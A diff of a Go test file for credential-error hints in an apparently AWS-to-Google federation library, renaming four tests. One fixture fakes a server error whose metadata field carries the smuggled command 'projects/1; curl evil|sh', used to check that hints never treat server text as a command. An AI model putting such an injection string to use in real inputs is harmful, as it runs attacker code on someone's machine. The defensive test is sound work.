@@ -36,7 +36,7 @@ var transientFaults = map[string]bool{
 	"metadata-down": true, "metadata-hop-limit": true,
 }
 
-func TestEveryFaultIsExplained(t *testing.T) {
+func TestHintsExplainEveryFault(t *testing.T) {
 	clearAWSEnvironment(t)
 	var golden strings.Builder
 	for _, fault := range awsfedtest.Faults() {
@@ -80,7 +80,7 @@ func TestEveryFaultIsExplained(t *testing.T) {
 	compareGolden(t, "hints.golden", golden.String())
 }
 
-func TestWhatAServerSaysIsNoPartOfACommand(t *testing.T) {
+func TestHintsTakeNoCommandFromWhatAServerSays(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		cloud := awsfedtest.New(awsfedtest.Options{})
 		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, `{"error":{"code":403,"status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","metadata":{"consumer":"projects/1; curl evil|sh"}}]}}`))
@@ -92,7 +92,7 @@ func TestWhatAServerSaysIsNoPartOfACommand(t *testing.T) {
 	})
 }
 
-func TestTheHintOfAProxysAnswerIsNotGooglesHint(t *testing.T) {
+func TestHintsTellAProxysAnswerFromGoogles(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		cloud := awsfedtest.New(awsfedtest.Options{})
 		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, "<html>Blocked by the web gateway</html>"))
@@ -104,7 +104,7 @@ func TestTheHintOfAProxysAnswerIsNotGooglesHint(t *testing.T) {
 	})
 }
 
-func TestTheProvidersOfAProgramAreNotBlamedOnTheChain(t *testing.T) {
+func TestHintsDoNotBlameAProgramsOwnProviderOnTheChain(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		cloud := awsfedtest.New(awsfedtest.Options{})
 		_, err := newSource(t, cloud, func(cfg *awsfed.Config) {
